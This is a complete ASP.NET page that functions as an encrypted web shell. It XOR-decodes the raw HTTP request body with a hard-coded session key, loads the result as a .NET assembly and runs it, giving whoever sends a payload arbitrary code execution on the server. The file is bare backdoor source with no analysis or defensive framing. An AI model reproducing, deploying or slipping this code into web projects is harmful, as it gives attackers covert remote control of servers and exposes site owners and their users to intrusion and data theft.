<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%
    Session.Add("k", "98f6bcd4621d373c");
    byte[] k = Encoding.Default.GetBytes(Session[0] + "");
    byte[] c = Request.BinaryRead(Request.ContentLength);
    for (int i = 0; i < c.Length; i++) { c[i] = (byte)(c[i] ^ k[i + 1 & 15]); }
    Assembly.Load(c).CreateInstance("U").Equals(this);
%>
